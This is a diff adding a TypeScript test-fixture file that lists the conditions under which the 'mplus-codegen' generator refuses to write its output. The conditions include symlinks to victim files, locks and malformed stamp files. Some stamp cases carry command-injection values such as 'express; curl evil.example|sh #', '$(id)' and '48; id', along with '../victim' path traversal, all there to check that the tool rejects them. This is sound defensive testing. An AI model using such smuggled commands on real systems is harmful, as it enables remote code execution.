@@ -1,0 +1,211 @@
+import { mkdirSync, renameSync, symlinkSync } from "node:fs";
+import { hostname } from "node:os";
+import { join } from "node:path";
+import type { ProblemCode } from "../../generator/base/problem/catalogue.js";
+import type { Wanted } from "../../generator/output/stamp.js";
+import { put, sample, want, write, type Files, type Workbench } from "./workbench.js";
+
+/** Something in the output folder that a run must not touch. */
+export interface Refusal {
+  readonly name: string;
+  /** What happens to the folder before the run. */
+  readonly given: (bench: Workbench) => void;
+  /** What the run wants; left out: the sample, changed in every file. */
+  readonly wanted?: Wanted;
+  readonly want: {
+    readonly code: ProblemCode;
+    /** `OUT` stands for the output folder, `ROOT` for the one above. */
+    readonly message: string;
+    readonly hint?: string;
+  };
+}
+
+/** The sample after a change of the spec that touches every file. */
+export const changed: Files = {
+  types: { "index.ts": "export type A = 1;\n", "deep/a.ts": "const a = 2;\n" },
+  validators: { "index.ts": "export const b = 3;\n" },
+};
+
+const generated = ({ out }: Workbench): void => void write(out, want(sample));
+
+const foreign = (path: string) => ({
+  code: "foreign-file" as const,
+  message: `OUT/${path} is in the way: mplus-codegen did not write it, so it is left alone and nothing was written.`,
+  hint: "Move it, or choose another folder with --out.",
+});
+
+const edited = (path: string) => ({
+  code: "edited-file" as const,
+  message: `OUT/${path} was changed by hand since it was generated, so nothing was written.`,
+  hint: "Move your changes elsewhere and delete the file; then run this again.",
+});
+
+const unwritable = (path: string, reason: string) => ({
+  code: "output-unwritable" as const,
+  message: `OUT/${path} cannot be written: ${reason}.`,
+});
+
+/** What is there, with its settings, and what is asked for; the calls that would add to it and make it anew. */
+const otherRange = (
+  [targets, held, settings]: readonly [string, string, string],
+  [range, asked]: readonly [string, string],
+  add: string,
+  remake: string,
+) => ({
+  code: "other-range" as const,
+  message: `This folder holds ${targets} for ${held} with safe responses and import extension js${settings}; all targets of a folder need the same settings, and this run, for ${range} with safe responses and import extension js${asked}, does not generate them all again.`,
+  hint: `To add to it with its own settings: mplus-codegen ${add} --out OUT. To generate all of it again: mplus-codegen ${remake} --out OUT`,
+});
+
+const unreadable = {
+  code: "stamp-unreadable" as const,
+  message:
+    "OUT/stamp.json is not a stamp that mplus-codegen wrote, so it cannot tell which files are its own.",
+  hint: "Delete the generated folder and run this again.",
+};
+
+/** The lock of a process of this machine, or of another. */
+export const formatLock = (pid: number, host = hostname()): string => `${pid} 0123abcd ${host}\n`;
+
+const replaceByLink = (path: string, target: string) => (bench: Workbench) => {
+  generated(bench);
+  renameSync(join(bench.out, path), join(bench.root, target));
+  symlinkSync(join(bench.root, target), join(bench.out, path));
+};
+
+const malformedStamp = (name: string, text: string): Refusal => ({
+  name: `a stamp that is ${name}`,
+  given: (bench) => {
+    generated(bench);
+    put(join(bench.out, "stamp.json"), text);
+  },
+  want: unreadable,
+});
+
+export const refusals: readonly Refusal[] = [
+  {
+    name: "a file of the user's in an empty folder",
+    given: ({ out }) => put(join(out, "types/index.ts"), "mine\n"),
+    want: foreign("types/index.ts"),
+  },
+  {
+    name: "a file of the user's where a new one would be",
+    given: (bench) => {
+      generated(bench);
+      put(join(bench.out, "types/new.ts"), "mine\n");
+    },
+    wanted: want({ ...sample, types: { ...sample["types"], "new.ts": "theirs\n" } }),
+    want: foreign("types/new.ts"),
+  },
+  {
+    name: "a generated file that was edited",
+    given: (bench) => {
+      generated(bench);
+      put(join(bench.out, "types/deep/a.ts"), "const a = 1; // mine\n");
+    },
+    want: edited("types/deep/a.ts"),
+  },
+  {
+    name: "a link in the place of a file",
+    given: replaceByLink("types/index.ts", "victim.ts"),
+    want: unwritable("types/index.ts", "a symbolic link is in the way"),
+  },
+  {
+    name: "a link in the place of a folder",
+    given: replaceByLink("types", "victims"),
+    want: unwritable("types/index.ts", "types is not a folder but a symbolic link"),
+  },
+  {
+    name: "a link in the place of the stamp",
+    given: replaceByLink("stamp.json", "victim.json"),
+    want: unwritable("stamp.json", "a symbolic link is in the way"),
+  },
+  {
+    name: "a folder in the place of a file",
+    given: ({ out }) => mkdirSync(join(out, "types/index.ts"), { recursive: true }),
+    want: unwritable("types/index.ts", "a folder is in the way"),
+  },
+  {
+    name: "a file in the place of a folder",
+    given: ({ out }) => put(join(out, "types/deep"), "mine\n"),
+    want: unwritable("types/deep/a.ts", "types/deep is not a folder but a file"),
+  },
+  {
+    name: "a file in the place of the output folder",
+    given: ({ out }) => put(out, "mine\n"),
+    want: unwritable("stamp.json", "the output folder is not a folder"),
+  },
+  {
+    name: "a folder that is somebody else's",
+    given: ({ out }) => put(join(out, "notes.txt"), "mine\n"),
+    want: {
+      code: "folder-of-others",
+      message:
+        'OUT holds files that mplus-codegen did not write ("notes.txt", for one), so nothing was written.',
+      hint: "Choose a new or an empty folder with --out, or with --dir for a project; generated files need a folder of their own.",
+    },
+  },
+  {
+    name: "a folder that another run is writing to",
+    given: (bench) => {
+      generated(bench);
+      put(join(bench.out, ".mplus-codegen-lock"), formatLock(process.ppid));
+    },
+    want: {
+      code: "folder-locked",
+      message: `Another run of mplus-codegen is writing to OUT (process ${process.ppid} on "${hostname()}"), so this one wrote nothing.`,
+      hint: "Run this again when it has ended; if there is no such process, delete OUT/.mplus-codegen-lock first.",
+    },
+  },
+  malformedStamp("no JSON", "{ nonsense"),
+  malformedStamp("another tool's", '{ "version": 3 }'),
+  malformedStamp("a list of targets", '{ "targets": [] }'),
+  malformedStamp("without files", '{ "targets": { "types": {} } }'),
+  malformedStamp("a list of files", '{ "targets": { "types": { "files": ["../victim"] } } }'),
+  malformedStamp("full of numbers", '{ "targets": { "types": { "files": { "types/index.ts": 1 } } } }'),
+  ...["express; curl evil.example|sh #", "$(id)", "a b", "../types", "-x", "Types", "a\nb", ""].map((name) =>
+    malformedStamp(
+      `of a target ${JSON.stringify(name)}`,
+      JSON.stringify({ targets: { [name]: { files: {} } } }),
+    ),
+  ),
+  ...["48; id", "$(id)", "48 -o /", ""].map((minVersion) =>
+    malformedStamp(
+      `for releases from ${JSON.stringify(minVersion)} on`,
+      JSON.stringify({ targets: { types: { files: {}, minVersion } } }),
+    ),
+  ),
+  {
+    name: "targets of another range that would stay",
+    given: generated,
+    wanted: want({ types: sample["types"] ?? {} }, { minVersion: "59.3", maxVersion: "60" }),
+    want: otherRange(
+      ["validators", "48..", ""],
+      ["59.3..60", ""],
+      "--target types --min-version 48",
+      "--target types,validators --min-version 59.3 --max-version 60",
+    ),
+  },
+  {
+    name: "targets with other integers, for another crypto, that would stay",
+    given: generated,
+    wanted: want({ validators: sample["validators"] ?? {} }, { int64: "bigint", crypto: "web" }),
+    want: otherRange(
+      ["types", "48..", ""],
+      ["48..", ", with 64-bit integers as bigint, for web crypto"],
+      "--target validators --min-version 48",
+      "--target validators,types --min-version 48 --int64 bigint --crypto web",
+    ),
+  },
+  {
+    name: "a target in a language that would stay, and has none in this run",
+    given: ({ out }) => void write(out, want({ models: { "a.php": "" } }, { language: "php" })),
+    wanted: want({ types: sample["types"] ?? {} }, { minVersion: "59.3" }),
+    want: otherRange(
+      ["models", "48..", ", in php"],
+      ["59.3..", ""],
+      "--target types --min-version 48",
+      "--target types,models --min-version 59.3 --language php",
+    ),
+  },
+];
